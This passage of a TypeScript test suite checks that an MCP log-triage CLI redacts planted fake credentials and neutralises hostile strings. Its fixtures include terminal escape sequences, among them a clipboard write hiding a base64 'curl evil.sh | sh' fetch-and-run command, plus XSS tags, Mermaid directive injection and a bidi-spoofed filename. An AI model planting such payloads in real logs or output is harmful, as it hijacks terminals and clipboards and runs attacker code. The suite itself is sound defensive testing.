    expect(stderr).not.toMatch(/^\s+at /m);
    expect(stderr).not.toMatch(/Error/);
  }, 30_000);
});

// ------------------------------------------------------------------ secrets

const SECRETS = {
  bearer: 'mcpTok_8fK2qLz9XwV4nR7tY1uB3sD6',
  cookie: 'sid_Q7wE4rT1yU8iO2pA5sD9fG3h',
  urlToken: 'ya29.Gl4XbQq7mNzT8vP1rK5sL2wY9',
  bodyBearer: 'bodyTok_2Hj7Kl9Mn4Bv6Cx8Zq1Wr3E',
  jwt: 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZ2VudC03IiwiZXhwIjoxOTAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVzLWdvLWhlcmUtMTIzNDU2Nzg5MA',
  dataBearer: 'dataTok_5Tg8Yh2Uj6Ik9Ol3Pz7Xc1V',
  harBearer: 'harTok_3Nm6Qw9Er2Ty5Ui8Op1As4D',
  harKey: 'harKey_7Lk4Jh1Gf8Ds5Az2Xc9Vb6N',
  msgBearer: 'msgTok_9Pl2Ok5Ij8Uh1Yg4Tf7Rd3E',
  password: 'correct-horse-battery-staple-42',
  snoopBearer: 'snpTok_4Rf7Tg1Yh8Uj5Ik2Ol9Pz3X',
  desktopBearer: 'dskTok_6Wq3Er8Ty1Ui4Op7As2Df5G',
};

let secretsWritten = false;
/** Writes the secret-bearing fixtures once (tests that read them may run at the same time). */
function secretFixtures(): void {
  if (secretsWritten) return;
  secretsWritten = true;
  write('secrets-canonical.ndjson', [
    JSON.stringify({
      v: 1, kind: 'exchange', ts: iso(T0), side: 'client', session: 'sess-secret', method: 'POST',
      url: `https://mcp.example.com/mcp?access_token=${SECRETS.urlToken}&tenant=acme`,
      requestHeaders: { Authorization: `Bearer ${SECRETS.bearer}`, Cookie: `session=${SECRETS.cookie}`, 'Mcp-Session-Id': 'sess-secret' },
      send: toolCall(1, 'deploy', { password: SECRETS.password }), status: 200,
      responseHeaders: { 'content-type': 'application/json', 'set-cookie': `session=${SECRETS.cookie}; HttpOnly` },
      recv: { jsonrpc: '2.0', id: 1, error: { code: -32001, message: `upstream rejected Bearer ${SECRETS.bodyBearer}`, data: { token: SECRETS.jwt, detail: `Authorization: Bearer ${SECRETS.dataBearer}` } } },
    }),
    JSON.stringify({
      v: 1, kind: 'exchange', ts: iso(T0 + 1000), side: 'client', session: 'sess-secret', method: 'POST',
      send: toolCall(2, 'whoami'), status: 200,
      recv: { jsonrpc: '2.0', id: 2, result: { isError: true, content: [{ type: 'text', text: `token ${SECRETS.jwt} expired; retry with Bearer ${SECRETS.bodyBearer}` }] } },
    }),
  ].join('\n'));
  write('secrets-har.ndjson', JSON.stringify({
    startedDateTime: iso(T0 + 2000), time: 12,
    request: {
      method: 'POST', url: `https://mcp.example.com/mcp?api_key=${SECRETS.harKey}`, httpVersion: 'HTTP/1.1',
      headers: [{ name: 'Authorization', value: `Bearer ${SECRETS.harBearer}` }, { name: 'Content-Type', value: 'application/json' }, { name: 'Mcp-Session-Id', value: 'sess-har' }],
      queryString: [{ name: 'api_key', value: SECRETS.harKey }], cookies: [], headersSize: -1, bodySize: -1,
      postData: { mimeType: 'application/json', text: JSON.stringify(toolCall(3, 'search')) },
    },
    response: {
      status: 401, statusText: 'Unauthorized', httpVersion: 'HTTP/1.1', headers: [{ name: 'Content-Type', value: 'application/json' }], cookies: [],
      content: { size: 80, mimeType: 'application/json', text: JSON.stringify({ jsonrpc: '2.0', id: 3, error: { code: -32001, message: `invalid token Bearer ${SECRETS.harBearer}` } }) },
      redirectURL: '', headersSize: -1, bodySize: -1,
    },
    cache: {}, timings: { send: 0, wait: 10, receive: 2 },
  }) + '\n');
  write('secrets-messages.ndjson', [
    JSON.stringify({ ts: iso(T0 + 3000), direction: 'c2s', message: toolCall(4, 'login', { password: SECRETS.password }) }),
    JSON.stringify({ ts: iso(T0 + 3100), direction: 's2c', message: { jsonrpc: '2.0', id: 4, error: { code: -32602, message: `bad credentials in Authorization: Bearer ${SECRETS.msgBearer}`, data: { password: SECRETS.password, jwt: SECRETS.jwt } } } }),
  ].join('\n'));
  write('secrets-mcpsnoop.jsonl', [
    JSON.stringify({ session_id: 'notes-77', server_label: 'notes', seq: 1, ts: iso(T0 + 4000), direction: 'c2s', transport: 'http', raw: toolCall(5, 'sync'), conn_id: '127.0.0.1:50000' }),
    JSON.stringify({ session_id: 'notes-77', server_label: 'notes', seq: 2, ts: iso(T0 + 4100), direction: 's2c', transport: 'http', status: 200, conn_id: '127.0.0.1:50000',
      raw: { jsonrpc: '2.0', id: 5, error: { code: -32603, message: `token refresh failed for Bearer ${SECRETS.snoopBearer}`, data: { access_token: SECRETS.snoopBearer } } } }),
  ].join('\n'));
  write('secrets-claude-desktop.log', [
    `${iso(T0 + 5000)} [notes] [info] Message from client: ${JSON.stringify({ method: 'tools/call', params: { name: 'fetch', arguments: { url: `https://api.example.com/v1?api_key=${SECRETS.harKey}` } }, jsonrpc: '2.0', id: 6 })} { metadata: undefined }`,
    `${iso(T0 + 5200)} [notes] [info] Message from server: ${JSON.stringify({ jsonrpc: '2.0', id: 6, error: { code: -32001, message: `401 from upstream, sent Bearer ${SECRETS.desktopBearer}` } })} { metadata: undefined }`,
  ].join('\n'));
}

describe.concurrent('secrets are redacted in every output format', () => {
  const files = ['secrets-canonical.ndjson', 'secrets-har.ndjson', 'secrets-messages.ndjson', 'secrets-mcpsnoop.jsonl', 'secrets-claude-desktop.log'];
  const formats = ['table', 'json', 'ndjson', 'markdown'];
  // Tables so wide that no cell wraps: a secret printed would show whole, so "not on stdout" proves it was not.
  const env = { COLUMNS: '100000' };

  it.each(formats)('%s: no planted secret appears on stdout or stderr', async (format) => {
    secretFixtures();
    const r = await cli([...files, '--format', format], { env });
    expect(r.code).toBe(0);
    expectNoCrash(r);
    expect(r.stderr).not.toMatch(/unusable/); // every fixture line was read, so the secrets really went through
    const all = r.stdout + r.stderr;
    // Not the secret, and not its first 12 characters either (a table cell cut after a partial redaction would show them).
    for (const [name, secret] of Object.entries(SECRETS)) expect(all, `${name} leaked in ${format}`).not.toContain(secret.slice(0, 12));
    expect(all).not.toContain(SECRETS.jwt.split('.')[1]!.slice(0, 12)); // the JWT's payload alone
    // Where the format shows log text (error messages), the marker shows where a secret was.
    if (format !== 'markdown') expect(all).toContain('[redacted:');
  });

  it.each(formats)('%s with --no-redact shows the secrets and says redaction is off', async (format) => {
    secretFixtures();
    const r = await cli([...files, '--format', format, '--no-redact'], { env });
    expect(r.code).toBe(0);
    const all = r.stdout + r.stderr;
    if (format === 'json') expect(jsonDoc(r).summary.redaction).toBe(false);
    else if (format === 'ndjson') expect(ndjsonLines(r).find((l) => l.type === 'summary')!.redaction).toBe(false);
    else expect(all).toMatch(/redaction is off/i);
    if (format !== 'markdown') {
      // The table cuts long cells: their first 10 characters are enough to prove the text is shown unredacted.
      for (const k of ['bodyBearer', 'msgBearer', 'snoopBearer', 'desktopBearer'] as const) expect(all, k).toContain(SECRETS[k].slice(0, 10));
    }
    if (format === 'json' || format === 'ndjson') {
      expect(all).toContain(SECRETS.bodyBearer);
      expect(all).toContain(SECRETS.dataBearer);
      expect(all).toContain(SECRETS.jwt);
    }
  });

  it('secrets in lines that are not valid JSON do not leak through the diagnostics (stderr and the summary)', async () => {
    // V8's JSON.parse messages quote a piece of the line: that piece must not carry a secret out.
    write('leaky-lines.ndjson', [
      '{"password": hunter2xyz}',
      '{"token": abcd1234efgh, "x": 1}',
      '{"x":1, "authorization": Basic dXNlcjpwYXNzd29yZA==}',
      `{"id":1, "cookie": sid=${SECRETS.cookie}}`,
      GOOD(0),
    ].join('\n'));
    for (const format of ['table', 'json']) {
      const r = await cli(['leaky-lines.ndjson', '--format', format], { env });
      expect(r.code).toBe(0);
      const all = r.stdout + r.stderr;
      for (const secret of ['hunter2', 'abcd1234', 'dXNlcjpw', SECRETS.cookie.slice(0, 10)]) expect(all, `${secret} in ${format}`).not.toContain(secret);
      for (const n of [1, 2, 3, 4]) expect(r.stderr).toMatch(new RegExp(`leaky-lines\\.ndjson:${n}: invalid JSON`));
    }
  });

  it('a token used as a key name is never shown cut short (a cut prefix escapes redaction)', async () => {
    const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.abcdefSIGxx';
    const ghp = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const long = `sk-${'q'.repeat(90)}`;
    write('key-secrets.ndjson', [JSON.stringify({ [jwt]: 1, [ghp]: 2, [long]: 3 }), GOOD(0)].join('\n'));
    for (const format of ['table', 'json']) {
      const r = await cli(['key-secrets.ndjson', '--format', format], { env });
      const all = r.stdout + r.stderr;
      for (const piece of ['eyJhbGciOiJIUzI1', 'ghp_abcdefgh', 'sk-qqqq']) expect(all, `${piece} in ${format}`).not.toContain(piece);
      expect(r.stderr).toMatch(/key-secrets\.ndjson:1: record in no known format \(keys: .*\(a key of 93 characters\)\)/);
    }
  });

  it('json summary states whether redaction was on, and every fixture line was used', async () => {
    secretFixtures();
    const on = jsonDoc(await cli([...files, '--format', 'json'])).summary;
    expect(on.redaction).toBe(true);
    expectAccounted(on);
    expect(on.lines.unusable).toBe(0);
    expect(on.inputs.map((a) => a.used)).toEqual([2, 1, 2, 2, 2]);
    expect(jsonDoc(await cli([...files, '--format', 'json', '--no-redact'])).summary.redaction).toBe(false);
  });
});

// ------------------------------------------------------------------ hostile strings

const HOSTILE = {
  tool: 'get\u001b[2J\u001b[H\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007<script>alert(1)</script>|col|%%{init: {"securityLevel":"loose"}}%%\n```\nclick A call alert(1)',
  message: 'failed \u001b]8;;https://evil.example\u001b\\click here\u001b]8;;\u001b\\ \u202egnp.exe\u202c <img src=x onerror=alert(1)> | pipe \r\nNote over A: injected; end',
  session: 'sess\u001b[31m-red|<b>bold</b>\u009b2J\u2066',
};

let hostileWritten = false;
/** Writes the hostile-string fixture once and returns its name. */
function hostileFixture(): string {
  if (hostileWritten) return 'hostile.ndjson';
  hostileWritten = true;
  return write('hostile.ndjson', [
    JSON.stringify({ v: 1, kind: 'exchange', ts: iso(T0), session: HOSTILE.session, method: 'POST', send: toolCall(1, HOSTILE.tool), status: 200,
      recv: { jsonrpc: '2.0', id: 1, error: { code: -32000, message: HOSTILE.message } } }),
    JSON.stringify({ v: 1, kind: 'exchange', ts: iso(T0 + 1000), session: HOSTILE.session, method: 'POST', send: toolCall(2, HOSTILE.tool), status: 200,
      recv: { jsonrpc: '2.0', id: 2, result: { isError: true, content: [{ type: 'text', text: HOSTILE.message }] } } }),
    JSON.stringify({ v: 1, kind: 'exchange', ts: iso(T0 + 2000), session: HOSTILE.session, method: 'POST', send: toolCall(3, HOSTILE.tool), status: 502, recvText: HOSTILE.message }),
    // An unusable line whose keys (quoted in the diagnostic) carry escape sequences.
    JSON.stringify({ [`\u001b]52;c;ZXZpbA==\u0007\u001b[2Jkey\u202e`]: 1, [HOSTILE.tool]: 2 }),
  ].join('\n'));
}

// eslint-disable-next-line no-control-regex
const RAW_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe.concurrent('hostile strings come out inert', () => {
  it('table: no escape sequence, control or bidi character reaches the terminal', async () => {
    const r = await cli([hostileFixture(), '--format', 'table', '--color', 'never']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROLS);
    expect(r.stderr).not.toMatch(RAW_CONTROLS);
    expect(r.stderr).toMatch(/hostile\.ndjson:4: record in no known format/);
    expect(r.stdout).toContain('get'); // the rows are there
  });

  it('json and ndjson: valid JSON, lossless, with every control, C1 and bidi character \\u-escaped', async () => {
    for (const format of ['json', 'ndjson']) {
      const r = await cli([hostileFixture(), '--format', format]);
      expect(r.code).toBe(0);
      expect(r.stdout, format).not.toMatch(RAW_CONTROLS);
      if (format === 'json') {
        expectAccounted(jsonDoc(r).summary);
        expect(jsonDoc(r).summary.inputs[0]).toMatchObject({ lines: 4, used: 3, unusable: 1, blank: 0 });
      }
      const attempts = format === 'json' ? jsonDoc(r).attempts : ndjsonLines(r).filter((l) => l.type === 'attempt');
      expect(attempts).toHaveLength(3);
      for (const a of attempts) {
        expect(a.tool).toBe(HOSTILE.tool);
        expect(a.session).toBe(HOSTILE.session);
      }
    }
  });

  it('markdown: no HTML, no broken table row, no Mermaid directive, no fence break-out', async () => {
    const r = await cli([hostileFixture(), '--format', 'markdown']);
    expect(r.code).toBe(0);
    const md = r.stdout;
    expect(md).not.toMatch(RAW_CONTROLS);
    expect(md).not.toMatch(/<script|<img|<b>|onerror=alert[^&]*>/i);
    // Every table keeps one cell count: count unescaped pipes per row, per block of table lines.
    const blocks = md.split(/\n(?!\|)/).map((b) => b.split('\n').filter((l) => l.startsWith('|')));
    for (const rows of blocks.filter((b) => b.length)) {
      const cells = rows.map((l) => (l.match(/(?<!\\)\|/g) ?? []).length);
      expect(new Set(cells).size, rows.join('\n')).toBe(1);
    }
    // Fences only open and close: no fence line carries log text, and each fenced block is closed.
    const fences = md.split('\n').filter((l) => l.trimStart().startsWith('```'));
    for (const f of fences) expect(f.trim()).toMatch(/^```(mermaid|text|json)?$/);
    expect(fences.length % 2).toBe(0);
    // Inside a Mermaid block, no line is a directive, click or note the log wrote.
    const mermaid = md.match(/```mermaid\n([\s\S]*?)```/g) ?? [];
    expect(mermaid.length).toBeGreaterThan(0);
    for (const block of mermaid) {
      expect(block).not.toContain('%%{');
      expect(block).not.toMatch(/^\s*(click|Note over A: injected|%%)/m);
      // The text after "A->>B: " (or "Note over X: ") is the log's; it must hold nothing Mermaid reads as syntax.
      for (const line of block.split('\n').slice(1, -1)) {
        const colon = line.indexOf(': ');
        if (colon !== -1) expect(line.slice(colon + 2), line).not.toMatch(/[;#{}<>`:]|%%/);
      }
    }
  });
});

describe('--strict stops at the first unusable line of any kind, with exit 2 and its location', () => {
  it.each([
    ['crlf.ndjson', 6, /status/],
    ['long.ndjson', 2, /line of \d+ bytes is over/],
    ['deep.ndjson', 1, /not an object|JSON array/],
  ])('%s stops at line %d', async (file, line, reason) => {
    const r = await cli([file, '--strict', '--format', 'json']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    const first = r.stderr.split('\n').find((l) => l.includes('(--strict)'));
    expect(first).toMatch(new RegExp(`^mcp-triage: ${file.replace('.', '\\.')}:${line}: `));
    expect(first).toMatch(reason);
    expectNoCrash(r);
  });
});


describe.concurrent('hostile strings come out inert in the sessions and timeline views too', () => {
  const views: Array<[string, string[]]> = [
    ['sessions', ['sessions']],
    ['timeline', ['timeline', 'sess']],
  ];
  for (const [name, command] of views) {
    it(`${name}: table and markdown carry no control character, HTML or broken row`, async () => {
      const file = hostileFixture();
      const table = await cli([...command, file, '--format', 'table', '--color', 'never']);
      expect(table.code).toBe(0);
      expectNoCrash(table);
      expect(table.stdout + table.stderr).not.toMatch(RAW_CONTROLS);
      const md = await cli([...command, file, '--format', 'markdown']);
      expect(md.code).toBe(0);
      expect(md.stdout).not.toMatch(RAW_CONTROLS);
      expect(md.stdout).not.toMatch(/<script|<img|<b>/i);
      for (const rows of md.stdout.split(/\n(?!\|)/).map((b) => b.split('\n').filter((l) => l.startsWith('|'))).filter((b) => b.length)) {
        expect(new Set(rows.map((l) => (l.match(/(?<!\\)\|/g) ?? []).length)).size, rows.join('\n')).toBe(1);
      }
    });

    it(`${name}: json is valid, lossless and escapes C1 and bidi controls`, async () => {
      const r = await cli([...command, hostileFixture(), '--format', 'json']);
      expect(r.code).toBe(0);
      expect(JSON.stringify(JSON.parse(r.stdout))).toContain(JSON.stringify(HOSTILE.session).slice(1, -1));
      expect(r.stdout).not.toMatch(RAW_CONTROLS);
    });
  }
});
